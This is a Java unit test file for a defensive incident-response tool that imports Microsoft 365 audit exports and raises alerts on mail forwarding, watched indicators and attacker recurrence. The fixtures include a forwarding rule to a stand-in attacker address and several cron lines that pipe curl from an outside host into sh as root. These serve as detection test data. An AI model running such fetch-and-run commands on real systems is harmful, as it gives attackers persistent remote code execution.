package bzh.vigie.collector.detect;

import static bzh.vigie.collector.store.Specimens.ANALYST;
import static bzh.vigie.collector.store.Specimens.AURAY;
import static bzh.vigie.collector.store.Specimens.CONCARNEAU;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.detect.ExternalLogs.Kept;
import bzh.vigie.collector.detect.ExternalLogs.Reading;
import bzh.vigie.collector.detect.ExternalLogs.Times;
import bzh.vigie.collector.detect.cloud.CloudReading;
import bzh.vigie.collector.detect.finding.Cards;
import bzh.vigie.collector.detect.returns.Sweep;
import bzh.vigie.collector.detect.returns.Sweep.Found;
import bzh.vigie.collector.detect.sigma.RuleSet;
import bzh.vigie.collector.incident.Evictions;
import bzh.vigie.collector.incident.WitnessIntake.Refusal;
import bzh.vigie.collector.intel.Indicator;
import bzh.vigie.collector.intel.Observable;
import bzh.vigie.collector.intel.Tlp;
import bzh.vigie.collector.store.Alerts;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.CloudExports;
import bzh.vigie.collector.store.CloudExports.CloudRecord;
import bzh.vigie.collector.store.IncidentId;
import bzh.vigie.collector.store.Incidents.Incident;
import bzh.vigie.collector.store.Incidents.Interval;
import bzh.vigie.collector.store.Indicators.Listed;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.collector.store.Tombstones.Tombstone;
import bzh.vigie.collector.store.Witnesses.Kind;
import bzh.vigie.collector.store.sqlite.SqliteStore;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What an export of Microsoft 365 shows, from its rows to alerts: when it is imported, and when something is marked or watched later. */
final class CloudIntakeTest {
    private static final Scope ALL = new Scope.All();
    private static final RuleSet RULES = ShippedRules.load();
    private static final Instant ENDED = Specimens.minute(60);
    private static final Instant NOW = Specimens.minute(60 * 24 * 20);
    private static final Instant SINCE = Specimens.minute(60 * 24 * 3);

    @TempDir
    Path dir;

    private SqliteStore store;
    private Incident incident;

    @BeforeEach
    void anIncidentWhoseEvictionEnded() {
        store = SqliteStore.open(dir, InstantSource.fixed(NOW));
        incident = store.write(s -> {
            Incident opened = s.incidents().open("messagerie", Set.of(AURAY), 90, ANALYST);
            s.incidents()
                    .eviction(
                            ALL,
                            opened.id(),
                            Optional.empty(),
                            Optional.of(new Interval(Specimens.minute(0), Optional.of(ENDED))),
                            ANALYST);
            return opened;
        });
    }

    @AfterEach
    void close() {
        store.close();
    }

    private static String row(String operation, String address, String more) {
        return "{\"CreationTime\":\"" + SINCE.toString().replace("Z", "") + "\",\"Operation\":\"" + operation
                + "\",\"Workload\":\"" + (operation.startsWith("User") ? "AzureActiveDirectory" : "Exchange")
                + "\",\"ResultStatus\":\"Success\",\"UserId\":\"lea@mairie.example\",\"ClientIP\":\"" + address + "\""
                + more + "}\n";
    }

    private static final String FORWARD = row(
            "New-InboxRule",
            "192.0.2.1",
            ",\"ObjectId\":\"lea\\\\regle\",\"Parameters\":[{\"Name\":\"Name\",\"Value\":\".\"},"
                    + "{\"Name\":\"ForwardTo\",\"Value\":\"copie@relais.evil.example\"}]");
    private static final String EXPORT = row("UserLoggedIn", "203.0.113.9", "")
            + row("UserLoginFailed", "198.51.100.7", "")
            + FORWARD
            + row("MailItemsAccessed", "192.0.2.1", "")
            + row("MailItemsAccessed", "203.0.113.9", "")
            + row("FileAccessed", "192.0.2.1", "");

    private Reading read(String text) throws IOException {
        CloudIntake intake = new CloudIntake(RULES);
        CloudReading cloud = store.read(s -> intake.reading(s, AURAY));
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        return ExternalLogs.read(
                () -> new ByteArrayInputStream(bytes),
                new Times(ZoneOffset.UTC, Optional.empty(), OptionalInt.empty()),
                cloud);
    }

    private Kept take(String text) throws IOException {
        Reading read = read(text);
        assertEquals(Optional.empty(), read.refusal());
        return store.write(s -> ExternalLogs.keep(
                        s,
                        ALL,
                        incident.id(),
                        AURAY,
                        "audit.jsonl",
                        Kind.MAIL,
                        read,
                        new CloudIntake(RULES),
                        ANALYST,
                        NOW))
                .orElseThrow();
    }

    private List<Alert> alerts() {
        return store.read(s -> s.alerts().list(ALL, Alerts.Filter.NONE, Optional.empty(), 100));
    }

    private Set<String> rules() {
        Set<String> rules = new TreeSet<>();
        alerts().forEach(each -> rules.add(each.rule()));
        return rules;
    }

    private List<Listed> watch(Observable... what) {
        return store.write(s -> s.indicators()
                .add(
                        Optional.of(incident.id().text()),
                        List.of(what).stream()
                                .map(each -> new Indicator(
                                        each,
                                        "test",
                                        "",
                                        Tlp.GREEN,
                                        80,
                                        Optional.empty(),
                                        Optional.empty(),
                                        false,
                                        true))
                                .toList(),
                        "test",
                        ANALYST));
    }

    private Tombstone mark(String command) {
        return store.write(s -> s.tombstones()
                        .add(
                                ALL,
                                incident.id(),
                                AURAY,
                                Optional.empty(),
                                "linux.cron.d|x",
                                Map.of(
                                        "location", "linux.cron.d",
                                        "name", "x",
                                        "source", "/etc/cron.d/x",
                                        "value", command,
                                        "target", "/usr/bin/curl"),
                                Optional.empty(),
                                ANALYST))
                .orElseThrow();
    }

    @Test
    void rulesFindWhatWasDoneAndWhatNobodyJudgesIsCounted() throws IOException {
        Kept kept = take(EXPORT);
        assertEquals(1, kept.raised());
        Alert alert = alerts().getFirst();
        assertEquals("vigie-cloud-mail-forwarded", alert.rule());
        assertEquals(CloudExports.HOST, alert.hostname());
        assertEquals(SINCE, alert.hostTime());
        assertEquals("lea@mairie.example", alert.evidence().get("account"));
        assertEquals("3", alert.evidence().get("row"));
        CloudExports.Summary summary =
                store.read(s -> s.cloudExports().summary(kept.number())).orElseThrow();
        assertEquals(6, summary.rows());
        assertEquals(2, summary.signIns());
        assertEquals(Map.of("MailItemsAccessed", 2, "FileAccessed", 1), summary.notJudged());
        assertEquals(3, summary.unjudged());
        List<CloudRecord> records = store.read(s -> s.cloudExports().records(kept.number()));
        assertEquals(
                List.of("New-InboxRule"),
                records.stream().map(CloudRecord::operation).toList());
        assertEquals(
                List.of("lea"),
                store.read(s -> s.witnesses().lines(kept.number(), -1, 10)).stream()
                        .map(each -> each.account())
                        .distinct()
                        .toList());
    }

    /** The same export a week later, with what was in it before: what is known is not told again. */
    @Test
    void whatIsInTwoExportsIsOneAlert() throws IOException {
        take(EXPORT);
        assertEquals(0, take(EXPORT + row("FileAccessed", "192.0.2.1", "")).raised());
        assertEquals(1, alerts().size());
    }

    @Test
    void anIndicatorIsTellingInWhicheverOperationItIs() throws IOException {
        watch(new Observable.Address("203.0.113.9"), new Observable.Domain("evil.example"));
        take(EXPORT);
        assertEquals(
                Map.of("203.0.113.9", 1L, "evil.example", 1L),
                alerts().stream()
                        .filter(each -> each.rule().equals("vigie-indicator-seen"))
                        .collect(Collectors.groupingBy(
                                each -> each.evidence().getOrDefault("indicator", ""), Collectors.counting())));
        // of an operation that nobody judges too
        take(row("MailItemsAccessed", "203.0.113.9", ""));
        long last = store.read(s -> s.witnesses().imports(ALL, incident.id()))
                .getLast()
                .number();
        assertEquals(1, store.read(s -> s.cloudExports().records(last)).size());
    }

    @Test
    void aNewIndicatorIsLookedForInWhatWasImportedBefore() throws IOException {
        take(EXPORT);
        List<Listed> fresh = watch(
                new Observable.Address("203.0.113.9"),
                new Observable.Address("198.51.100.7"),
                new Observable.UserAccount("copie@relais.evil.example"));
        LookBack back = new LookBack(store, new MemoryHistory(), new Cards(RULES.cards()), fresh);
        assertEquals(3, back.run(ALL, NOW).alerts());
        assertEquals(Set.of("vigie-cloud-mail-forwarded", "vigie-indicator-seen"), rules());
    }

    private void isRecurrence(Alert alert) {
        assertEquals(incident.id().text(), alert.evidence().get("incident"));
        assertEquals("after", alert.evidence().get("eviction"));
    }

    @Test
    void theAddressOfAMarkedCommandIsARecurrenceWhereverSomebodyCameFromIt() throws IOException {
        mark("* * * * * root curl -s http://203.0.113.9/a | sh");
        take(row("UserLoggedIn", "203.0.113.9", "")
                + row("UserLoggedIn", "192.0.2.1", "")
                + row("MailItemsAccessed", "203.0.113.9", ""));
        List<Alert> returned = alerts();
        assertEquals(2, returned.size());
        assertEquals(Set.of("vigie-suspected-return"), rules());
        returned.forEach(this::isRecurrence);
        assertEquals(
                2,
                store.read(s -> s.tombstones().recurrences(ALL, incident.id())).size());
    }

    /** Also where the export is taken twice, or whoever dates the eviction does it later. */
    @Test
    void whatWasDoneBeforeTheEvictionEndedIsTheSameAttack() throws IOException {
        mark("* * * * * root curl -s http://203.0.113.9/a | sh");
        String before = row("UserLoggedIn", "203.0.113.9", "")
                .replace(
                        SINCE.toString().replace("Z", ""),
                        Specimens.minute(5).toString().replace("Z", ""));
        take(before);
        take(before + row("FileAccessed", "192.0.2.1", ""));
        assertEquals(Set.of("vigie-same-attack"), rules());
        assertTrue(store.read(s -> s.tombstones().recurrences(ALL, incident.id())).stream()
                .allMatch(each -> each.sameAttack()));
        take(before + row("UserLoggedIn", "203.0.113.9", ""));
        assertEquals(Set.of("vigie-same-attack", "vigie-suspected-return"), rules());
    }

    @Test
    void theHostOfAMarkedCommandIsKnownAgainInARecipient() throws IOException {
        Tombstone mark = mark("* * * * * root curl -s http://relais.evil.example/a | sh");
        take(FORWARD);
        assertEquals(Set.of("vigie-cloud-mail-forwarded", "vigie-suspected-return"), rules());
        // and where it is marked after the import
        List<Found> found = new Sweep(store, NOW)
                .of(
                        List.of(mark),
                        List.of(AURAY),
                        List.of(),
                        Evictions.of(store.read(s -> s.incidents().evictions(ALL, incident.id()))),
                        new Cards(RULES.cards()))
                .found();
        assertEquals(
                List.of(CloudExports.HOST),
                found.stream().map(each -> each.host().hostname()).toList());
        assertEquals(
                0,
                new Sweep(store, NOW)
                        .of(
                                List.of(mark),
                                List.of(CONCARNEAU),
                                List.of(),
                                Evictions.of(List.of()),
                                new Cards(RULES.cards()))
                        .found()
                        .size());
    }

    @Test
    void theTownHallsOwnDomainIsNoRecurrence() throws IOException {
        mark("* * * * * root curl -s http://sauvegarde.mairie.example/a | sh");
        take(row("UserLoggedIn", "192.0.2.1", "")
                + row("New-InboxRule", "192.0.2.1", ",\"ObjectId\":\"marc@mairie.example\",\"Parameters\":[]"));
        assertTrue(rules().stream().noneMatch(each -> each.contains("return")), rules().toString());
    }

    @Test
    void whatIsTakenBackIsLookedThroughNoMore() throws IOException {
        take(EXPORT);
        store.change(
                s -> s.witnesses().add(ALL, incident.id(), AURAY, "audit.jsonl", Kind.MAIL, "", 0, List.of(), ANALYST));
        assertEquals(List.of(), store.read(s -> s.cloudExports().standing(ALL)));
    }

    @Test
    void aFileThatIsNoneOrBrokenIsRefused() throws IOException {
        assertEquals(
                Optional.of(Refusal.BROKEN),
                read("[" + EXPORT.lines().findFirst().orElseThrow() + ",{").refusal());
        assertEquals(Optional.of(Refusal.NONE), read("{\"a\":1}").refusal());
        assertEquals(Optional.of(Refusal.NONE), read("a;b\n1;2\n").refusal());
    }

    @Test
    void whoMayNotSeeTheCommuneWritesNothing() throws IOException {
        Reading read = read(EXPORT);
        Scope other = new Scope.Communes(Set.of(CONCARNEAU));
        assertEquals(
                Optional.empty(),
                store.write(s -> ExternalLogs.keep(
                        s, other, incident.id(), AURAY, "a", Kind.MAIL, read, new CloudIntake(RULES), ANALYST, NOW)));
        assertEquals(List.of(), alerts());
        assertEquals(List.of(), store.read(s -> s.witnesses().imports(ALL, new IncidentId("2026-001"))));
    }
}
